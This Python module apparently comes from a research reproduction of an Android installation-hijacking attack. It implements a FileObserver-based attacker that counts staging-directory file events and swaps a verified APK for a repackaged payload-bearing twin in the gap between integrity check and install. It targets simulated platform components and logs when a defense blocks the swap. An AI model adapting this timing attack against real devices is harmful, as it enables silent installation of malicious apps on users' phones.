"""Installation hijacking via FileObserver — AIT Step 3 (Section III-B).

The attacker watches the installer's staging directory and counts
events: ``CLOSE_WRITE`` marks the end of the download, and the
store-specific number of ``CLOSE_NOWRITE`` events marks the end of the
integrity check.  The instant the count is reached, the staged APK is
replaced with a repackaged twin (same manifest, attacker payload) —
inside the window between the check and the PMS/PIA read.

Requires only the SD-Card permission, exactly as in the paper.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Optional, Tuple

from repro.errors import AccessDenied, FilesystemError
from repro.android.apk import MalformedApk
from repro.android.fileobserver import FileObserver
from repro.android.filesystem import FileEvent, FileEventType
from repro.attacks.base import MaliciousApp, StoreFingerprint


@dataclass
class _FileState:
    """Attack-relevant history of one staged file."""

    download_complete: bool = False
    nowrite_count: int = 0


class FileObserverHijacker(MaliciousApp):
    """The Step-3 TOCTOU attacker."""

    def __init__(self, fingerprint: StoreFingerprint,
                 package: Optional[str] = None) -> None:
        super().__init__(package=package)
        self.fingerprint = fingerprint
        self.observer: Optional[FileObserver] = None
        self._states: Dict[str, _FileState] = {}
        self._dormant = False
        self.swaps: List[str] = []
        self.blocked: List[Tuple[str, str]] = []

    # -- lifecycle ---------------------------------------------------------------

    def arm(self) -> None:
        """Start watching the staging directory."""
        if self.observer is None:
            self.observer = self.file_observer(self.fingerprint.watch_dir)
            self.observer.on_event(self._on_event)
        self._dormant = False
        self._states.clear()
        self.observer.start_watching()
        self.note_armed()

    def disarm(self) -> None:
        """Stop watching."""
        if self.observer is not None:
            self.observer.stop_watching()

    def rearm(self) -> None:
        """Reset state for the next transaction (after a successful swap)."""
        self._dormant = False
        self._states.clear()

    @property
    def succeeded(self) -> bool:
        """True once at least one swap landed."""
        return bool(self.swaps)

    # -- the state machine ----------------------------------------------------------

    def _on_event(self, event: FileEvent) -> None:
        if self._dormant:
            return
        name = event.name
        if not name.endswith(".apk"):
            return
        state = self._states.get(name)
        if state is None:
            state = self._states[name] = _FileState()
        if self.fingerprint.rename_signals_completion:
            # Xiaomi: the tmp-name rename to the official .apk name is
            # the download-completion cue.
            if event.event_type is FileEventType.MOVED_TO:
                state.download_complete = True
                state.nowrite_count = 0
                if self.fingerprint.close_nowrite_count == 0:
                    self._swap(event.path)
                return
        elif event.event_type is FileEventType.CLOSE_WRITE:
            state.download_complete = True
            state.nowrite_count = 0
            if self.fingerprint.close_nowrite_count == 0:
                # A store with no integrity check: swap the instant the
                # download lands — there is no check to wait out.
                self._swap(event.path)
            return
        if event.event_type is FileEventType.CLOSE_NOWRITE and state.download_complete:
            state.nowrite_count += 1
            if state.nowrite_count >= self.fingerprint.close_nowrite_count:
                self._swap(event.path)

    def _swap(self, path: str) -> None:
        """Replace the verified APK with the repackaged twin."""
        self._dormant = True  # one shot per arm/rearm cycle
        try:
            genuine = self.read_file(path)
            replacement = self.forge_replacement(genuine)
            self.write_file(path, replacement.to_bytes())
        except AccessDenied as exc:
            # A defense (FUSE DAC) vetoed the write.
            self.blocked.append((path, str(exc)))
            self.note_strike(path, blocked=True, reason=str(exc))
            return
        except (MalformedApk, FilesystemError) as exc:
            self.blocked.append((path, f"swap failed: {exc}"))
            self.note_strike(path, blocked=True, reason=f"swap failed: {exc}")
            return
        self.swaps.append(path)
        self.note_strike(path)
